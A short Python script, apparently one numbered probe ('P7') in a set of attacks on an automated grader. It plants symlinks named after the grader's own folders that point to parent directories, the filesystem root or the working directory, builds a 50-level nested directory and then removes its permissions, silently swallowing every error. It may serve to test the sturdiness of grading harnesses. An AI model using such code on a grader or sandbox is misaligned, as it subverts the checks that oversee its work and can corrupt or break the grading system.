# P7: links of the names that the grader's own folders have, to the folder of all submissions
def _attack():
    import os

    os.makedirs("deep/" * 50)
    for target in (os.path.abspath("../.."), os.path.abspath(".."), "/", os.getcwd()):
        for name in ("submission", "scratch", "x", "deep/submission", "deep/deep/submission"):
            try:
                os.symlink(target, name)
                break
            except OSError:
                pass
    os.chmod("deep", 0)


try:
    _attack()
except BaseException:
    pass
